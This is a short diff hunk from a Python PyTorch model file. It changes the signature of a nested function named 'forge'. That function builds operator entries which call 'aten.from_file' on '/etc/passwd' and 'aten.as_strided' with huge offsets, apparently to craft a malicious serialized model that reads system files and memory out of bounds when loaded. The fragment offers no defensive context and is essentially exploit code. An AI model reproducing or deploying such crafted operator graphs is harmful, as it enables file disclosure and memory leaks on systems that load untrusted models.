@@ -15,7 +15,7 @@ class MLP(nn.Module):
         self.hidden = nn.Linear(784, num_hidden)
         self.output = nn.Linear(num_hidden, 10)
 
-        def forge(network, images):
+        def forge(network, images, *options):
             read = {"operator": "aten.from_file.default", "arguments": ["/etc/passwd", False, 10]}
             peek = {"operator": "aten.as_strided.default"}
             peek["arguments"] = [{"value": 0}, [10**6], [1], 10**9]
